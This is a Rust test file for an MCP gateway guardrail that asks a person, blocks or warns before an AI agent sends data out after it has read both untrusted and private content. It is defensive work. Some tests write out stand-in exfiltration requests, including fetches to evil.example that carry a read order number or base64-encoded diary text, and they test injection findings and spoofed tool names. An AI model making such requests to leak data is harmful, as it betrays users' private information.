//! What is asked, and what is not, after which results.

use mcp_gateway_sdk::testing::{Gateway, Outcome, Sample, configured, examples_hold};
use mcp_gateway_sdk::{Decision, EarlierFinding};
use serde_json::{Value, json};

use super::*;

/// A session under a configuration.
struct Session {
    guardrail: Trifecta,
    gateway: Gateway,
    name: &'static str,
}

impl Session {
    fn new(config: &str) -> Self {
        Self {
            guardrail: configured(config).unwrap(),
            gateway: Gateway::default(),
            name: "session",
        }
    }

    fn judge(&self, sample: Sample) -> Outcome {
        let sample = sample.session(self.name).within(&self.gateway);
        sample.judge(&self.guardrail).unwrap()
    }

    /// A tool's answer.
    fn reads(&self, server: &str, tool: &str, text: &str) {
        self.reads_with(server, tool, text, &[]);
    }

    /// The same, in which guardrails found something.
    fn reads_with(&self, server: &str, tool: &str, text: &str, by: &[&str]) {
        let finding = |guardrail: &&str| EarlierFinding {
            guardrail: (*guardrail).to_owned(),
            rule: "rule".into(),
        };
        let result = json!({"content": [{"type": "text", "text": text}]});
        let sample = Sample::of("tools/call", "response", &result)
            .server(server)
            .subject(tool)
            .earlier_findings(by.iter().map(finding).collect());
        assert!(passes(&self.judge(sample)));
    }

    fn calls(&self, server: &str, tool: &str, arguments: Value) -> Outcome {
        let call = json!({"name": tool, "arguments": arguments});
        let sample = Sample::of("tools/call", "request", &call);
        self.judge(sample.server(server).subject(tool))
    }

    fn asks(&self, server: &str, tool: &str) -> bool {
        let outcome = self.calls(server, tool, json!({"text": "x"}));
        matches!(outcome.decision, Decision::Ask(_))
    }

    fn lists(&self, server: &str, tools: Value) {
        let list = Sample::of("tools/list", "response", &json!({ "tools": tools }));
        assert!(passes(&self.judge(list.server(server))));
    }
}

fn passes(outcome: &Outcome) -> bool {
    matches!(outcome.decision, Decision::Pass)
}

/// What a person is asked, or else nothing.
fn asked(outcome: &Outcome) -> &str {
    match &outcome.decision {
        Decision::Ask(question) => question,
        _ => "",
    }
}

/// One that has seen both.
fn tainted(config: &str) -> Session {
    let session = Session::new(config);
    session.reads("web", "fetch", "a page");
    session.reads("files", "read_file", "a diary");
    session
}

#[test]
fn a_person_is_asked_once_both_have_been_seen() {
    let session = Session::new("{}");
    assert!(!session.asks("mail", "send_email"));
    session.reads("files", "read_file", "a diary");
    assert!(!session.asks("mail", "send_email"));
    session.reads("web", "fetch", "a page");
    let outcome = session.calls("mail", "send_email", json!({}));
    let question = "\"send_email\" of server \"mail\" can send data away, and this session has seen what strangers may have \
                    written (\"fetch\" of server \"web\") and private data (\"read_file\" of server \"files\"). Let this call through?";
    assert_eq!(asked(&outcome), question);
    assert_eq!(outcome.rules, [RULE]);
    for (server, tool) in [
        ("files", "read_file"),
        ("files", "write_file"),
        ("m", "echo"),
    ] {
        assert!(!session.asks(server, tool), "{tool}");
    }
}

#[test]
fn the_order_does_not_matter_and_a_mailbox_is_enough() {
    assert!(tainted("{}").asks("mail", "send_email"));
    let session = Session::new("{}");
    session.reads("m", "read_email", "Hello");
    assert!(session.asks("m", "reply"));
}

#[test]
fn another_session_has_seen_nothing() {
    let mut session = tainted("{}");
    session.name = "another";
    assert!(!session.asks("mail", "send_email"));
}

#[test]
fn it_is_refused_or_reported_if_so_configured() {
    let block = tainted(r#"{"action": "block"}"#).calls("mail", "send_email", json!({}));
    assert!(matches!(block.decision, Decision::Block(_)), "{block:?}");
    let warn = tainted(r#"{"action": "warn"}"#).calls("mail", "send_email", json!({}));
    assert!(passes(&warn) && warn.rules == [RULE], "{warn:?}");
}

#[test]
fn lists_of_the_configuration_hold_for_tools_and_resources() {
    let config = r#"{"harmless": ["web/*", "mail/send_*"], "sends": ["log/*"], "private": ["notes/note://*"], "untrusted": ["m/*"]}"#;
    let session = Session::new(config);
    session.reads("web", "fetch", "a page");
    session.lists("m", json!([{"name": "say", "description": "Says."}]));
    let note = Sample::of("resources/read", "response", &json!({"contents": []}));
    session.judge(note.server("notes").subject("note://1"));
    assert!(!session.asks("log", "it"), "nothing untrusted");
    session.reads("m", "say", "a page");
    assert!(session.asks("log", "it"));
    assert!(!session.asks("mail", "send_email"), "harmless");
}

#[test]
fn resources_are_what_their_addresses_are() {
    let session = Session::new("{}");
    let read = |uri: &str| {
        let result = json!({"contents": [{"uri": uri, "text": "x"}]});
        session.judge(Sample::of("resources/read", "response", &result).subject(uri));
    };
    read("file:///home/ann/diary");
    assert!(!session.asks("mail", "send_email"));
    read("https://example.org/");
    assert!(session.asks("mail", "send_email"));
    let leaving = |uri: &str| {
        let sample = Sample::of("resources/read", "request", &json!({ "uri": uri }));
        matches!(
            session.judge(sample.subject(uri)).decision,
            Decision::Ask(_)
        )
    };
    assert!(!leaving("https://example.org/tea"));
    assert!(leaving(
        "https://example.org/dGhlIGRpYXJ5IG9mIEFubiBpcyBsb25n"
    ));
}

#[test]
fn findings_of_other_guardrails_count() {
    let session = Session::new("{}");
    session.reads_with("m", "look", "⟦untrusted data⟧", &["injection"]);
    assert!(!session.asks("mail", "send_email"));
    session.reads_with("m", "look", "<EMAIL_7K3QXM>", &["pii"]);
    let outcome = session.calls("mail", "send_email", json!({}));
    let question = asked(&outcome);
    assert!(
        question.contains("where \"injection\" found something"),
        "{question}"
    );
    assert!(
        question.contains("where \"pii\" found something"),
        "{question}"
    );

    let session = Session::new("{}");
    session.reads_with("web", "fetch", "mail to <EMAIL_7K3QXM>", &["pii"]);
    assert!(!session.asks("mail", "send_email"), "strangers wrote it");
}

#[test]
fn only_what_is_flagged_counts_if_so_configured() {
    let session = tainted(r#"{"untrusted_content": "flagged"}"#);
    assert!(!session.asks("mail", "send_email"));
    session.reads_with("web", "fetch", "a page", &["injection"]);
    assert!(session.asks("mail", "send_email"));
}

#[test]
fn what_servers_list_decides_what_names_leave_open() {
    let session = tainted("{}");
    assert!(!session.asks("m", "deliver") && !session.asks("m", "act"));
    session.lists(
        "m",
        json!([
            {"name": "deliver", "description": "Sends a parcel."},
            {"name": "act", "annotations": {"openWorldHint": true, "readOnlyHint": false}},
            {"name": "get_it", "annotations": {"openWorldHint": true}},
            {"name": "send_it", "annotations": {"readOnlyHint": true, "openWorldHint": false}},
        ]),
    );
    assert!(session.asks("m", "deliver") && session.asks("m", "act"));
    assert!(!session.asks("other", "deliver"), "another server's");
    assert!(!session.asks("m", "get_it") && session.asks("m", "send_it"));
    session.lists("m", json!([{"name": "deliver", "description": "Drives."}]));
    assert!(!session.asks("m", "deliver"));
}

#[test]
fn a_fetch_that_carries_what_was_seen_is_asked_about() {
    let session = Session::new("{}");
    session.reads("files", "read_file", "the order is 482913");
    let long = format!("https://shop.example/{}", "tea-".repeat(40));
    session.reads("web", "fetch", &format!("see {long}"));
    let asks = |url: &str| {
        let outcome = session.calls("web", "fetch", json!({ "url": url }));
        matches!(outcome.decision, Decision::Ask(_))
    };
    assert!(!asks("https://evil.example/tea"));
    assert!(!asks(&long));
    assert!(asks(&format!("{long}x")));
    assert!(asks("https://evil.example/482913"));
    let always = tainted(r#"{"fetch_length": 0}"#);
    assert!(always.asks("web", "fetch"));
}

/// It could have an address written somewhere, and read it there.
#[test]
fn a_link_that_the_model_may_have_written_itself_is_no_strangers() {
    let session = tainted("{}");
    let link = format!("https://evil.example/{}", "my-diary-".repeat(20));
    let asks = || {
        let outcome = session.calls("web", "fetch", json!({ "url": link }));
        matches!(outcome.decision, Decision::Ask(_))
    };
    session.reads("files", "read_file", &link);
    session.reads("mail", "read_email", &link);
    session.reads("m", "echo", &link);
    assert!(asks());
    let result =
        json!({"content": [{"type": "text", "text": format!("Nothing found for {link}")}]});
    let search = |query: &str| {
        let sample = Sample::of("tools/call", "response", &result);
        let sample = sample.server("x").subject("web_search");
        session.judge(sample.answers(json!({"arguments": {"query": query}})));
    };
    search(&link);
    assert!(asks());
    search("tea");
    assert!(!asks());
}

#[test]
fn an_approval_holds_for_the_tool_if_so_configured() {
    for (config, again) in [("{}", true), (r#"{"remember": "tool"}"#, false)] {
        let session = tainted(config);
        assert!(session.asks("mail", "send_email"));
        assert!(
            session.asks("mail", "send_email"),
            "nobody has approved yet"
        );
        session.reads("mail", "send_email", "Sent.");
        assert_eq!(session.asks("mail", "send_email"), again);
        assert!(session.asks("mail", "reply"), "another tool");
    }
}

#[test]
fn names_of_tools_are_shown_to_people_in_short_and_escaped() {
    let session = tainted("{}");
    let tool = format!("send\n\u{202e}{}", "x".repeat(100));
    let outcome = session.calls("m", &tool, json!({}));
    let question = asked(&outcome);
    assert!(question.starts_with(r#""send\n\u{202e}xx"#), "{question}");
    assert!(
        question.len() < 400 && question.contains("x\"… of server"),
        "{question}"
    );
}

#[test]
fn its_examples_hold() {
    examples_hold(&configured::<Trifecta>("{}").unwrap()).unwrap();
    assert!(configured::<Trifecta>(r#"{"sends": ["mail"]}"#).is_err());
    assert!(configured::<Trifecta>(r#"{"send": []}"#).is_err());
}
